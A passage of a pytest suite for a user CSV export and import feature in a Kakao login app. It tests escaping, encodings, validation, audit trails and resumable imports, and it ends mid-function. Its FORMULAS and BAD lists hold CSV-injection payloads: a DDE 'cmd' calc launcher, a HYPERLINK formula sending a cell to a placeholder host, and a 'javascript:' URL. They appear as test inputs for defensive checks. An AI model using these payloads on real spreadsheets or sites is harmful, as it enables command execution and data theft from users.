"""Users as CSV: what stands in a file, who may have one, and what becomes of each line that comes back."""

import csv
import io
import os
import random
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from html import unescape
from pathlib import Path
from typing import Any

import pytest
import time_machine
from click.testing import Result
from email_validator import EmailNotValidError, validate_email
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import delete, event, func, insert, select
from sqlalchemy.exc import OperationalError
from support import FakeKakao, log_in, person

from kakaoauth.accounts import roles as accounts_roles
from kakaoauth.accounts.unlink_jobs import UnlinkJob
from kakaoauth.audit import AuditEvent
from kakaoauth.cli.terminal import Progress
from kakaoauth.models import Identity, User, find_user_by_email
from kakaoauth.staff.csv import cells, import_users, reading
from kakaoauth.staff.csv.columns import ALIASES, column_of
from kakaoauth.staff.csv.people import READERS
from kakaoauth.staff.csv.reading import batches
from kakaoauth.staff.csv.writing import COLUMNS, columns
from kakaoauth.staff.listing import page
from kakaoauth.staff.listing.filters import Filter
from kakaoauth.storage.database import db
from kakaoauth.text import PLAIN, clean_text, normal_form

MOMENT = datetime(2026, 1, 2, 3, 4, 5, 678900, UTC)
Type = Callable[..., Result]


@pytest.fixture
def site(kept_app: Flask) -> Iterator[Flask]:
    with kept_app.app_context():
        yield kept_app
        db.session.rollback()
        for table in (User, AuditEvent, UnlinkJob):
            db.session.execute(delete(table))
        db.session.commit()


@pytest.fixture
def run(site: Flask) -> Type:
    def run(*words: str | Path) -> Result:
        db.session.rollback()
        result = site.test_cli_runner().invoke(args=["users", *map(str, words)])
        assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
        return result

    return run


@pytest.fixture
def bring(run: Type, tmp_path: Path) -> Type:
    """Import these lines."""

    def bring(*lines: str | bytes, options: tuple[str, ...] = ()) -> Result:
        file = tmp_path / "in.csv"
        file.write_bytes(b"".join(line if isinstance(line, bytes) else f"{line}\n".encode() for line in lines))
        return run("import", file, *options)

    return bring


def records(raw: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def somebody(email: str | None = "minji@example.kr", *identities: str, **fields: Any) -> User:
    user = User.objects.create_user(email, **fields)
    for one in identities:
        provider, subject = one.split(":")
        db.session.add(Identity(provider=provider, subject=subject, user=user))
    db.session.commit()
    return user


def emails_now() -> list[str | None]:
    return list(db.session.scalars(select(User.email).order_by(User.id)))


def trail(action: str) -> list[dict[str, Any]]:
    events = db.session.scalars(select(AuditEvent).where(AuditEvent.action == action).order_by(AuditEvent.id))
    return [event.told for event in events]


# Cells

FORMULAS = (
    *("=1+1", "+1", "-1", "@x", '=HYPERLINK("http://x.kr?"&A1,"x")', "=cmd|' /C calc'!A0"),
    *(" =1", "  +1", "\t=1", "\r=1", "\n=1", "\r\n=1", "\u3000=1", "\ufeff=1", "\u200b=1"),
    *("\u200d\u2060 -1", "\u3164=1", "＝1", "＋1", "－1", "＠x", " ＝1", "\u200b＠"),
    *("'=1", "''=1", "' =1", "\u202e=1", "\t", "\tx", "\x00=1", "\x1b=1"),
)
HARMLESS = ("", "민지", "'tis", "a=1", "1-1", "x@y.kr", "a,b;c", 'say "hi"', "'", "a\tb", "  blank ", "😀=1", "’=1")


def opened(cell: str) -> str:
    """What a spreadsheet sees of a cell: without what is drawn as nothing."""
    return cell.strip(" \u00a0\u3000\ufeff\u200b\u200d\u2060\u3164\u202e\x00\x1b\n")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_a_formula(text: str) -> None:
    [[cell]] = csv.reader([cells.row([text])])
    assert opened(cell)[:1] not in set("=+-@＝＋－＠\t\r\n"), ascii(cell)
    assert cell.startswith("'")


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_as_it_is(text: str) -> None:
    assert list(csv.reader([cells.row([text, text])])) == [[text, text]]


@pytest.mark.parametrize("seed", range(20))
def test_reading_takes_away_just_what_writing_added(seed: int) -> None:
    chance = random.Random(seed)
    alphabet = "'=+-@＝－\t \u200b\ufeffa가\",;\u3000"
    for _ in range(500):
        text = "".join(chance.choices(alphabet, k=chance.randrange(6)))
        [[cell]] = csv.reader([cells.row([text])], strict=True)
        assert cells.read(cell) == text, ascii(text)


def test_line_breaks_and_control_characters_become_blanks() -> None:
    line = cells.row(["a\r\nb\x00\x1b[31mc\u2028d", "e"])
    assert line == '"a b [31mc d","e"\r\n'


@pytest.mark.parametrize("seed", range(5))
def test_plain_addresses_are_what_the_library_says_they_are(seed: int) -> None:
    chance = random.Random(seed)
    plain = 0
    for _ in range(400):
        text = "".join(chance.choices(["a", "B", "9", ".", "-", "+", "_", "co", "kr"], k=chance.randrange(1, 5)))
        domain = chance.choice(["", f"{text}.", "x-y."]) + chance.choice(["kr", "example.kr", "a--b.kr", "1", "k1"])
        address = f"{text}@{domain}"
        try:
            parsed = validate_email(address, check_deliverability=False, globally_deliverable=False)
            wanted = parsed.normalized.lower() if "." in parsed.domain else None
        except EmailNotValidError:
            wanted = None
        plain += PLAIN.fullmatch(address) is not None
        assert normal_form(address) == wanted, address
    assert plain > 50


# The page


def export(client: FlaskClient, query: str = "", **form: str) -> Any:
    found = client.get("/users/").text.split('name="csrf_token" value="')[1].split('"')[0]
    return client.post(f"/users/export.csv{query}", data={"csrf_token": found, **form})


def test_download_is_a_file_that_excel_opens(sora: FlaskClient, app: Flask) -> None:
    with app.app_context():
        somebody("hangul@example.kr", "kakao:90071992547409931", "facebook:7", nickname="=HYPERLINK(1)", name="민지")
    response = export(sora)
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Cache-Control"] == "no-store"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment; filename=users-20")
    assert disposition.endswith(".csv")
    raw = response.data
    assert raw.startswith(b'\xef\xbb\xbf"id",')
    assert raw.count(b"\n") == raw.count(b"\r\n") == 6
    found = {row["email"]: row for row in records(raw)}
    assert tuple(found["hangul@example.kr"]) == columns(with_consents=False)
    assert found["hangul@example.kr"]["nickname"] == "'=HYPERLINK(1)"
    assert found["hangul@example.kr"]["identities"] == "kakao:90071992547409931|facebook:7"
    assert found["sora@example.kr"]["is_staff"] == "true"


def test_download_holds_no_secret(app: Flask, sora: FlaskClient) -> None:
    with app.app_context():
        accounts_roles.create_superuser("ops@example.kr", "a long password of ours")
        words = [str(user.password_hash) for user in db.session.scalars(select(User)) if user.password_hash]
    text = export(sora).text
    assert words
    for secret in (*words, "argon2", "canary", "session_version", "password"):
        assert secret not in text


def test_download_is_what_the_list_shows_in_its_order(app: Flask, sora: FlaskClient) -> None:
    with app.app_context():
        for number in range(60):
            somebody(f"u{number:02}@example.kr", nickname=f"n{number % 7}", provider="facebook")
    rows = records(export(sora, provider="facebook", q="u", sort="nickname").data)
    with app.app_context():
        wanted = page(Filter(provider="facebook", search="u"), sort="nickname", limit=100).users
        assert [row["id"] for row in rows] == [str(user.id) for user in wanted]
    text = sora.get("/users/?provider=facebook&q=u&sort=nickname").text
    address = unescape(text.split('action="/users/export.csv')[1].split('"')[0])
    assert records(export(sora, address).data) == rows


def test_filter_that_is_none_hands_out_nobody(sora: FlaskClient) -> None:
    for odd in ({"role": "boss"}, {"from": "yesterday"}, {"provider": "x"}, {"q": "\x00"}):
        assert export(sora, **odd).status_code == 400
    assert export(sora, sort="password_hash").status_code == 200


def test_download_stands_in_the_trail_with_its_filter_and_without_names(app: Flask, sora: FlaskClient) -> None:
    assert len(records(export(sora, q="minji@example.kr", role="user").data)) == 1
    with app.app_context():
        assert trail("exported") == [
            {"begun": True, "role": "user", "searched": True},
            {"users": 1, "role": "user", "searched": True},
        ]
        event = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "exported")).all()[-1]
        sora_id = find_user_by_email("sora@example.kr").id  # type: ignore[union-attr]
        assert (event.actor_id, event.source, event.result) == (sora_id, "127.0.0.1", "done")


def test_browser_that_goes_away_ends_the_download(app: Flask, sora: FlaskClient) -> None:
    with app.app_context():
        db.session.execute(insert(User), [{"nickname": f"n{number}"} for number in range(2500)])
        db.session.commit()
    found = sora.get("/users/").text.split('name="csrf_token" value="')[1].split('"')[0]
    response = sora.post("/users/export.csv", data={"csrf_token": found})
    pieces = response.iter_encoded()
    assert [piece.count(b"\n") for piece in (next(pieces), next(pieces))] == [1, 1000]
    response.close()
    with app.app_context():
        assert trail("exported")[-1] == {"users": 1000, "broken off": True}


def test_seventh_download_within_the_hour_waits(app: Flask, sora: FlaskClient, client_as: Callable[..., Any]) -> None:
    assert [export(sora).status_code for _ in range(7)] == [200] * 6 + [429]
    assert "Retry-After" in export(sora).headers


def test_download_is_no_link(sora: FlaskClient) -> None:
    assert sora.get("/users/export.csv").status_code == 405
    assert sora.post("/users/export.csv").status_code == 400


# Out and in again


def test_everybody_comes_back_as_they_were(site: Flask, run: Type, tmp_path: Path) -> None:
    for number, nickname in enumerate(text for text in FORMULAS if clean_text(text) == text):
        somebody(f"+f{number}@example.kr", nickname=nickname, name='a "b", c', provider=None)
    somebody(
        "Minji@example.kr",
        "kakao:3902187744",
        "facebook:12",
        **{"provider": "facebook", "age": 31, "age_range": "30~39", "gender": "female", "is_active": False},
        **{"profile_image": "https://k.kakaocdn.net/a.jpg", "date_joined": MOMENT, "last_login": MOMENT},
    )
    somebody(None, "kakao:1", provider="kakao", is_staff=True, is_superuser=True, nickname="가", date_joined=MOMENT)
    assert run("export", tmp_path / "a.csv").exit_code == 0
    before = (tmp_path / "a.csv").read_bytes()
    db.session.execute(delete(User))
    db.session.commit()
    result = run("import", tmp_path / "a.csv", "--with-roles")
    assert result.exit_code == 0, result.output
    assert run("export", tmp_path / "b.csv").exit_code == 0
    one, other = records(before), records((tmp_path / "b.csv").read_bytes())
    assert len(one) >= 15
    for row in (*one, *other):
        del row["id"]
    assert one == other


def test_imported_people_are_found_and_log_in(app: Flask, kakao: FakeKakao, tmp_path: Path) -> None:
    file = tmp_path / "in.csv"
    file.write_text("email,nickname,identities\nminji@example.kr,뷁뷁,kakao:77\nwaits@example.kr,,\n")
    assert app.test_cli_runner().invoke(args=["users", "import", str(file)]).exit_code == 0
    with app.app_context():
        assert [user.email for user in page(Filter(search="뷁")).users] == ["minji@example.kr"]
        before = list(db.session.scalars(select(User.id)))
    for number, email in ((77, "minji@example.kr"), (78, "waits@example.kr")):
        kakao.me = person(number, email=email)
        assert log_in(app.test_client(), kakao).location == "/"
    with app.app_context():
        assert list(db.session.scalars(select(User.id))) == before
        assert {user.provider for user in db.session.scalars(select(User))} == {"kakao"}


# Refusals

BAD = {
    "email": ("minji", "a@b", "a@b\x1b[31m.kr", "a b@example.kr"),
    "identities": ("kakao", "kakao:", "myspace:1", "kakao:1.2E+18", "kakao:1|kakao:1", "kakao:1;2"),
    "provider": ("myspace", "kakao"),
    "nickname": ("x" * 101,),
    "age": ("-1", "151", "thirty", "１"),
    "age_range": ("30-39", "=1"),
    "gender": ("x",),
    "profile_image": ("http://x.kr/a", "javascript:alert(1)"),
    "is_active": ("maybe",),
    "is_superuser": ("boss",),
    "date_joined": ("yesterday", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00", "2400-01-01"),
    "last_login": ("2026-13-01",),
}


@pytest.mark.parametrize("column", BAD)
def test_bad_cell_is_refused_by_line_and_column_and_its_neighbours_are_taken(bring: Type, column: str) -> None:
    others = ["email"] if column != "email" else []
    lines = [",".join((*others, column))]
    for number, cell in enumerate(BAD[column]):
        lines += [",".join((*(f"bad{number}@example.kr" for _ in others), cell))]
    lines.append(",".join((*("good@example.kr" for _ in others), "good@example.kr" if column == "email" else "")))
    result = bring(*lines)
    assert result.exit_code == 1
    told = [line.split(":")[0] for line in result.stdout.splitlines()[:-1]]
    assert told == [f"line {number + 2}, {column}" for number in range(len(BAD[column]))]
    assert "\x1b" not in result.output
    assert emails_now() == ["good@example.kr"]


def test_every_reason_of_a_line_is_told_and_written_into_the_report(bring: Type, tmp_path: Path) -> None:
    report = tmp_path / "report.csv"
    lines = ("email,age,gender", "x,y,z", "good@example.kr,,", "a@example.kr,1")
    result = bring(*lines, options=("--report", str(report)))
    assert result.stdout.splitlines() == [
        "line 2, email: not an e-mail address",
        "line 2, age: not a number of years up to 150",
        "line 2, gender: none of female, male",
        "line 4: has 2 cells, and the header 3",
        "3 lines: 1 imported, 2 refused.",
    ]
    assert report.stat().st_mode & 0o777 == 0o600
    assert [(row["line"], row["column"]) for row in records(report.read_bytes())] == [
        *(("2", "email"), ("2", "age"), ("2", "gender"), ("4", "")),
    ]


def test_line_numbers_are_the_files_own(bring: Type) -> None:
    lines = ['"a@example.kr","two', 'lines"', "", "bad,", ",,", '"b@example.kr","1\r\n2\r\n3"', "bad,"]
    result = bring("email,name", *lines)
    assert [line.split(",")[0] for line in result.stdout.splitlines()[:2]] == ["line 5", "line 10"]
    assert "line 6: has 3 cells" not in result.stdout
    assert emails_now() == ["a@example.kr", "b@example.kr"]


def test_same_address_or_identity_twice_in_a_file_makes_one_person(bring: Type) -> None:
    result = bring(
        "email,identities",
        "a@example.kr,kakao:1",
        "A@Example.kr,kakao:2",
        "b@example.kr,kakao:1",
        "bad,kakao:3",
        "c@example.kr,kakao:3",
    )
    assert result.stdout.splitlines()[:3] == [
        "line 3, email: the same as on line 2",
        "line 4, identities: the same as on line 2",
        "line 5, email: not an e-mail address",
    ]
    assert emails_now() == ["a@example.kr", "c@example.kr"]


def test_nobody_who_is_there_is_changed(bring: Type) -> None:
    user = somebody("Minji@example.kr", "kakao:1", nickname="minji", provider="kakao")
    result = bring(
        "email,identities,nickname", "minji@example.kr,facebook:2,evil", "x@example.kr,kakao:1,evil", "y@example.kr,,y"
    )
    assert result.exit_code == 1
    assert result.stdout.splitlines()[:2] == [
        "line 2, email: there is an account with it already",
        "line 3, identities: there is an account with it already",
    ]
    db.session.expire_all()
    assert (user.nickname, user.email, [one.subject for one in user.identities]) == ("minji", "Minji@example.kr", ["1"])
    assert emails_now() == ["Minji@example.kr", "y@example.kr"]


def test_whoever_the_provider_is_still_to_be_told_about_is_refused(bring: Type) -> None:
    db.session.add(UnlinkJob(provider="kakao", subject="5"))
    db.session.commit()
    result = bring("identities", "kakao:5", "facebook:5")
    assert result.stdout.startswith("line 2, identities: has left")
    assert db.session.scalar(select(func.count(User.id))) == 1


def test_nobody_gets_a_role_unless_it_is_asked_for(bring: Type) -> None:
    lines = ("email,is_staff,is_superuser", "a@example.kr,TRUE,", "b@example.kr,false,yes", "c@example.kr,,")
    result = bring(*lines)
    assert result.stdout.endswith("2 lines give a role, which was left out: --with-roles gives it.\n")
    assert not db.session.scalars(select(User).where(User.is_staff)).all()
    db.session.execute(delete(User))
    db.session.commit()
    bring(*lines, options=("--with-roles",))
    roles = db.session.execute(select(User.is_staff, User.is_superuser).order_by(User.id)).all()
    assert [tuple(one) for one in roles] == [(True, False), (True, True), (False, False)]


@pytest.mark.parametrize(
    ("file", "why"),
    [
        (b"", "it is empty"),
        (b"\n\n", "it is empty"),
        (b"nickname\nminji\n", "neither the column email nor identities"),
        (b"email,password\x1b[2J\na@b.kr,x\n", "no such column: password?[2j;"),
        (b"email,,name\n", "no such column: (no name)"),
        (b"email,Email\n", "a column is there twice"),
        ("email,name\n".encode("utf-32"), "save as CSV UTF-8"),
        ("email,name\na@example.kr,민지\n".encode() + "b@example.kr,하나\n".encode("cp949"), "line 3 is not in the"),
        ("email,name\na@example.kr,민지\n".encode() + b"b@example.kr,\xff\xff\n", "line 3 is not in the"),
        ("이메일,전화번호\na@example.kr,1\n".encode("cp949"), "no such column: 전화번호"),
        ("이메일,email\na@example.kr,b@example.kr\n".encode(), "a column is there twice"),
        (b"email,na\0me\na@example.kr,x\n", "a NUL character is in it"),
        (b'"email\n', "quotes that do not fit together"),
        (b"\xef\xbb\xbf" + b"x" * 200_000, "far too long"),
    ],
)
def test_file_that_is_none_is_refused_as_a_whole(bring: Type, file: bytes, why: str) -> None:
    result = bring(file)
    assert result.exit_code == 1
    assert why in result.stderr
    assert "\x1b" not in result.output
    assert emails_now() == []


def test_line_that_cannot_be_read_costs_only_itself(bring: Type) -> None:
    result = bring(
        b"\xef\xbb\xbfemail,name\n",
        b'"a@example.kr","x"y\n',
        "b@example.kr,b",
        "c@example.kr,가".encode("cp949") + b"\n",
        b"d@example.kr," + b"x" * 300_000 + b"\n",
        "e@example.kr,e",
        '"f@example.kr,f',
    )
    assert result.stdout.splitlines()[:4] == [
        "line 2: quotes that do not fit together",
        "line 4: not UTF-8: in Excel, save as CSV UTF-8",
        "line 5: far too long",
        "line 7: quotes that do not fit together",
    ]
    assert emails_now() == ["b@example.kr", "e@example.kr"]


def test_quote_that_is_never_closed_does_not_take_the_rest_of_the_file() -> None:
    lines = ["email", '"open', *(f"x{number:05}@example.kr" for number in range(4000))]
    [batch, *more] = batches(io.BytesIO("\n".join(lines).encode()), with_roles=False)
    [[line, [[column, why]]]] = batch.refused
    assert (line, column, more) == (2, "", [])
    assert why.startswith("far too long; read as one with what follows up to line ")
    last = int(why.split()[-1])
    assert [person.line for person in batch.good] == list(range(last + 1, len(lines) + 1))
    assert len("\n".join(lines[1:last])) < reading.LONGEST + 100


def test_file_is_read_no_further_than_a_batch() -> None:
    lines = [f"x{number:05}@example.kr\n" for number in range(2 * reading.BATCH)]
    file = io.BytesIO("".join(("email\n", *lines)).encode())
    first = next(batches(file, with_roles=False))
    assert (len(first.good), file.tell()) == (reading.BATCH, 6 + reading.BATCH * len(lines[0]))


# As Korean offices make them


LINES = (
    ("이메일", "이름", "닉네임", "성별", "가입일", "나이"),
    ("minji@example.kr", "김민지", "똠방; 각하, 펲시콜라", "여", "2026. 1. 2. 오후 3:04:05", "31"),
    ("hana@example.kr", "이하나", '따"옴표', "남자", "2026-01-02", ""),
)
ENCODINGS = ("utf-8", "utf-8-sig", "cp949", "utf-16", "utf-16-le", "utf-16-be", "BOM utf-16-be")


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("encoding", ENCODINGS)
def test_file_of_a_korean_office_is_read(bring: Type, encoding: str, delimiter: str) -> None:
    file = io.StringIO(newline="")
    csv.writer(file, delimiter=delimiter).writerows(LINES)
    text = f"\ufeff{file.getvalue()}" if encoding.startswith("BOM") else file.getvalue()
    result = bring(text.encode(encoding.removeprefix("BOM ")))
    assert result.exit_code == 0, result.output
    minji, hana = db.session.scalars(select(User).order_by(User.id)).all()
    assert (minji.email, minji.name, minji.nickname) == ("minji@example.kr", "김민지", "똠방; 각하, 펲시콜라")
    assert (minji.gender, minji.age, minji.date_joined) == ("female", 31, datetime(2026, 1, 2, 15, 4, 5, tzinfo=UTC))
    assert (hana.nickname, hana.gender, hana.date_joined) == ('따"옴표', "male", datetime(2026, 1, 2, tzinfo=UTC))


@pytest.mark.parametrize("encoding", ["cp949", "utf-16", "utf-16-be", "utf-8"])
def test_long_file_of_another_encoding_is_read_to_its_end(encoding: str) -> None:
    """Also where a piece that is read at a time ends within a character."""
    lines = [f"p{number}@example.kr,{'가나다라마바사'[: number % 8]}힣" for number in range(5_000)]
    file = io.BytesIO("\n".join(["email,이름", *lines]).encode(encoding))
    found = [person for batch in batches(file, with_roles=False) for person in batch.good]
    assert [
        f"{one.values['email'][0] if isinstance(one.values['email'], tuple) else one.values['email']}"
        f",{one.values['name']}"
        for one in found
    ] == lines
    assert [one.line for one in found] == list(range(2, 5_002))


def test_file_that_comes_through_a_pipe_is_read_or_its_rows_refused() -> None:
    for header, encoding in (
        ("이메일,이름", "cp949"),
        ("email,name", "cp949"),
        ("이메일,이름", "utf-16"),
        ("이메일,이름", "utf-8"),
    ):
        ends = os.pipe()
        with os.fdopen(ends[1], "wb") as writer:
            writer.write(f"{header}\na@example.kr,민지\n".encode(encoding))
        with os.fdopen(ends[0], "rb") as reader:
            [batch] = batches(reader, with_roles=False)
        assert [person.values["name"] for person in batch.good] == ["민지"]


def test_line_that_names_the_separator_is_heeded(bring: Type) -> None:
    result = bring("sep=;", "email;name", "minji@example.kr;김,민지")
    assert (result.exit_code, emails_now()) == (0, ["minji@example.kr"])
    assert bring("sep=;", "email;name", "bad;x").stdout.startswith("line 3, email")


def test_half_a_character_and_lone_surrogates_cost_their_row(bring: Type) -> None:
    head = "email,name\ngood@example.kr,민지\n"
    lone = (head + "a@example.kr,").encode("utf-16-le") + b"\x00\xd8" + "\n".encode("utf-16-le")
    result = bring(b"\xff\xfe" + lone)
    assert result.exit_code == 1
    assert emails_now() == ["good@example.kr"]
    result = bring(b"\xff\xfe" + (head.replace("good", "two") + "b@example.kr,x").encode("utf-16-le") + b"\x41")
    assert result.exit_code == 1
    assert emails_now() == ["good@example.kr", "two@example.kr"]


def test_nul_in_a_cell_is_refused(bring: Type) -> None:
    result = bring("email,name", b"a@example.kr,mi\0nji\n", b"b\0@example.kr,x\n", "c@example.kr,x")
    assert result.stdout.splitlines()[:2] == ["line 2: a NUL character is in it", "line 3: a NUL character is in it"]
    assert emails_now() == ["c@example.kr"]


@pytest.mark.parametrize("column", ALIASES)
def test_korean_names_of_columns_mean_what_they_say(column: str) -> None:
    for name in (column, *ALIASES[column]):
        assert column_of(f" {name.upper()} ") == column
        assert column_of(" ".join(name)) == column
    assert set(ALIASES) == set(READERS) == set(COLUMNS)


@pytest.mark.parametrize(
    ("written", "moment"),
    [
        ("2026-01-02T12:00:00+09:00", (2026, 1, 2, 3)),
        ("2026-01-02T12:00:00Z", (2026, 1, 2, 12)),
        ("2026-01-02 12:00", (2026, 1, 2, 12)),
        ("2026-01-02", (2026, 1, 2, 0)),
        ("2026-1-2", (2026, 1, 2, 0)),
        ("2026.01.02", (2026, 1, 2, 0)),
        ("2026. 1. 2.", (2026, 1, 2, 0)),
        ("2026/1/2 12:00:00", (2026, 1, 2, 12)),
        ("2026년 1월 2일", (2026, 1, 2, 0)),
        ("2026년 1월 2일 오후 12:00", (2026, 1, 2, 12)),
        ("2026-01-02 오전 12:00:00", (2026, 1, 2, 0)),
        ("2026-01-02 오후 3:00", (2026, 1, 2, 15)),
        ("2026-01-02 3:00 PM", None),
        ("1/2/2026", None),
        ("2026-02-30", None),
        ("2026-01-02 오후 13:00", None),
        ("2026-01-02 24:00", None),
        ("46024", None),
    ],
)
def test_dates_are_read_as_excel_shows_them(bring: Type, written: str, moment: tuple[int, ...] | None) -> None:
    """Without a zone they are UTC."""
    result = bring("email,가입일", f"a@example.kr,{written}")
    assert (result.exit_code == 0) == (moment is not None)
    if moment:
        assert db.session.scalars(select(User.date_joined)).one() == datetime(*moment, tzinfo=UTC)  # type: ignore[misc]


@pytest.mark.parametrize(("written", "taken"), [("2026-08-02T10:00:00Z", True), ("2026-08-02T10:00:01Z", False)])
def test_date_of_the_future_is_refused_beyond_what_clocks_and_zones_differ_by(
    bring: Type, written: str, taken: bool
) -> None:
    with time_machine.travel("2026-08-01T10:00:00Z", tick=False):
        result = bring("email,date_joined", f"a@example.kr,{written}")
    assert (result.exit_code == 0) == taken
    assert ("in the future" in result.stdout) != taken
    joined = db.session.scalars(select(User.date_joined)).all()
    assert joined == [datetime(2026, 8, 1, 10, tzinfo=UTC)] * taken, "never later than now"


# Dry runs, all or nothing, again


def state() -> dict[str, Any]:
    """Everything that an import could leave behind."""
    db.session.rollback()
    found: dict[str, Any] = {
        table.name: db.session.execute(select(table).order_by(*table.primary_key)).all()
        for table in db.metadata.sorted_tables
    }
    if db.engine.dialect.name == "postgresql":
        query = "SELECT last_value, is_called FROM users_id_seq"
    else:
        query = "SELECT * FROM sqlite_sequence ORDER BY name"
    found["numbers"] = [tuple(row) for row in db.session.execute(db.text(query))]
    return found


@pytest.mark.parametrize("option", ["--dry-run", "--all-or-nothing"])
def test_nothing_at_all_is_changed_by_a_trial_or_by_a_bad_line(bring: Type, option: str) -> None:
    somebody()
    before = state()
    result = bring("email", "a@example.kr", "minji@example.kr", "b@example.kr", options=(option,))
    assert result.exit_code == 1
    assert result.stdout.splitlines() == [
        "line 3, email: there is an account with it already",
        "3 lines: 2 would be imported, 1 refused. Nobody was imported.",
    ]
    assert state() == before


def test_trial_of_a_good_file_ends_well_and_changes_nothing(bring: Type) -> None:
    before = state()
    result = bring("email", "a@example.kr", options=("--dry-run",))
    assert (result.exit_code, state()) == (0, before)


def test_all_are_taken_if_all_are_good(bring: Type) -> None:
    lines = [f"u{number}@example.kr,kakao:{number}" for number in range(reading.BATCH + 1)]
    result = bring("email,identities", *lines, options=("--all-or-nothing",))
    assert (result.exit_code, len(emails_now())) == (0, len(lines))
    assert [told["users"] for told in trail("imported")] == [reading.BATCH, 1]


def test_all_or_nothing_is_nothing_if_somebody_signs_up_meanwhile(site: Flask) -> None:
    """After everything was looked at: their line is not good any more when it is stored."""
    files = [io.BytesIO(f"email\n{name}@example.kr\n".encode()) for name in ("a", "b")]
    read = [next(batches(file, with_roles=False)) for file in files]
    somebody("b@example.kr")
    before = state()
    with pytest.raises(import_users.SomethingRefused) as refused:
        import_users.import_all(lambda: read)
    assert refused.value.refused == [(2, (("email", "there is an account with it already"),))]
    after = state()
    del before["numbers"], after["numbers"]
    assert after == before


def test_import_that_was_killed_is_finished_by_a_second_one(bring: Type, run: Type, tmp_path: Path) -> None:
    number = reading.BATCH + 500
    lines = [f"u{one}@example.kr,kakao:{one}" if one % 1000 else f"bad{one}," for one in range(number)]
    commits = 0

    def die(*_: Any) -> None:
        nonlocal commits
        commits += 1
        if commits == 2:
            raise KeyboardInterrupt

    event.listen(db.session, "before_commit", die)
    try:
        result = bring("email,identities", *lines)
    finally:
        event.remove(db.session, "before_commit", die)
    assert result.exit_code == 1
    assert "1,998 users were imported; the same command with --resume goes on from there" in result.stderr
    assert len(emails_now()) == 1998
    result = run("import", tmp_path / "in.csv", "--resume")
    assert (result.exit_code, result.stdout.splitlines()[-1]) == (
        1,
        "2,500 lines: 499 imported, 1,998 there already, 3 refused.",
    )
    assert sorted(map(str, emails_now())) == sorted(line.split(",")[0] for line in lines if "bad" not in line)


def test_going_on_refuses_a_line_that_belongs_to_two(bring: Type) -> None:
    somebody("a@example.kr")
    somebody("b@example.kr", "kakao:1", provider="kakao")
    result = bring("email,identities", "a@example.kr,kakao:1", "b@example.kr,kakao:2", options=("--resume",))
    assert result.stdout.splitlines()[0] == "line 2, email: these belong to different accounts"
    assert "1 there already" in result.stdout


def test_imported_people_can_go_again(site: Flask, bring: Type) -> None:
    """On SQLite the search index is filled by hand here, and has to lose just what it was given."""
    bring("email,nickname", "abcabc@example.kr,aaaaaa", "b@example.kr,")
    for user in db.session.scalars(select(User)).all():
        db.session.execute(delete(User).where(User.id == user.id))
        db.session.commit()
    if db.engine.dialect.name == "sqlite":
        db.session.execute(db.text("INSERT INTO user_search(user_search) VALUES ('integrity-check')"))
    assert page(Filter(search="a")).users == []


def test_import_stands_in_the_trail_with_its_lines(bring: Type) -> None:
    bring("email", "a@example.kr", "bad", "b@example.kr")
    assert trail("imported") == [{"users": 2, "first_line": 2, "last_line": 4}]


# The command line


def test_export_on_the_command_line_is_filtered_and_private(run: Type, tmp_path: Path) -> None:
    somebody("a@example.kr", nickname="ann", date_joined=MOMENT, is_staff=True)
    somebody("b@example.kr", nickname="bob", is_active=False)
    file = tmp_path / "out.csv"
    file.write_text("old")
    options = ("--search", "ann", "--role", "staff", "--state", "active", "--joined-from", "2026-01-02")
    result = run("export", file, *options, "--joined-until", "2026-01-02")
    assert result.exit_code == 0
    assert [row["email"] for row in records(file.read_bytes())] == ["a@example.kr"]
    assert file.stat().st_mode & 0o777 == 0o600
    assert os.listdir(tmp_path) == ["out.csv"]
    assert "exported: 1, " in result.stderr
    assert "per second" in result.stderr
    assert trail("exported")[-1]["users"] == 1


def test_export_to_standard_output_is_the_file_and_nothing_else(run: Type) -> None:
    somebody("a@example.kr")
    assert [row["email"] for row in records(run("export", "-").stdout_bytes)] == ["a@example.kr"]


def test_export_leaves_the_old_file_if_it_fails(run: Type, tmp_path: Path) -> None:
    file = tmp_path / "out.csv"
    file.write_text("old")
    somebody("a@example.kr")

    def fail(_connection: Any, _cursor: Any, statement: str, *_rest: Any) -> None:
        if "FROM identities" in statement:
            raise OperationalError(statement, {}, Exception("away"))

    event.listen(db.engine, "before_cursor_execute", fail)
    try:
        result = run("export", file)
    finally:
        event.remove(db.engine, "before_cursor_execute", fail)
    assert (result.exit_code, file.read_text(), os.listdir(tmp_path)) == (1, "old", ["out.csv"])
    assert "Error: the database has failed: nothing was exported\n" in result.stderr
    assert trail("exported")[-1] == {"users": 0, "broken off": True}


@pytest.mark.parametrize(
    "words",
    [
        ("export", "/dev/null"),
        ("export", "out.csv", "--role", "boss"),
        ("export", "out.csv", "--joined-from", "yesterday"),
        ("import", "missing.csv"),
        ("import", __file__, "--all-or-nothing", "--resume"),
        ("import", __file__, "--report", __file__),
    ],
)
def test_what_cannot_be_meant_is_a_question_of_usage(app: Flask, words: tuple[str, ...]) -> None:
    assert app.test_cli_runner().invoke(args=["users", *words]).exit_code == 2
    assert Path("/dev/null").is_char_device()


def test_progress_says_how_fast_it_goes_and_how_long_it_takes(capsys: pytest.CaptureFixture[str]) -> None:
    times = iter([0.0, 20.0, 20.0, 20.0, 4000.0])
    progress = Progress("imported", clock=lambda: next(times))
    progress.update(30_000, 0.25)
    progress.finish()
    assert capsys.readouterr().err.splitlines() == [
        "imported [######..................]  25%  30,000, 1,500 per second, 1:00 left",
        "imported: 30,000, 8 per second, 1:06:40 in all",
    ]


def test_closed_accounts_and_odd_identities_come_back_as_they_were(app: Flask, tmp_path: Path) -> None:
    closed, ends = datetime(2026, 11, 1, tzinfo=UTC), datetime.now(UTC) + timedelta(days=9)
    file = tmp_path / "users.csv"
    runner = app.test_cli_runner()
    with app.app_context():
